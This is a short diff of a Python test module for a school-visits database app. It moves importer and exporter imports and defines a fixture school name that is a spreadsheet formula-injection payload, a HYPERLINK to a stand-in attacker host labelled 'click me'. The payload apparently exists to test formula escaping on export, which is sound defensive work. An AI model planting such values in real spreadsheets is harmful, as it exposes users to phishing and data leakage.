@@ -14,8 +14,8 @@ from sqlalchemy import select
 from db.models import Cluster, Exemption, School, Teacher, VisitParticipant
 from db.store import Store
 from desktop.cli import main
-from desktop.commands.export import KINDS as EXPORTS
-from desktop.commands.import_ import KINDS as IMPORTS
+from db.importers import IMPORTERS as IMPORTS
+from reports.exporters import EXPORTERS as EXPORTS
 from reports.xlsx import FORMULA_STARTS
 
 SCHOOL_NAME = '=HYPERLINK("http://evil.example/?q","点我")'
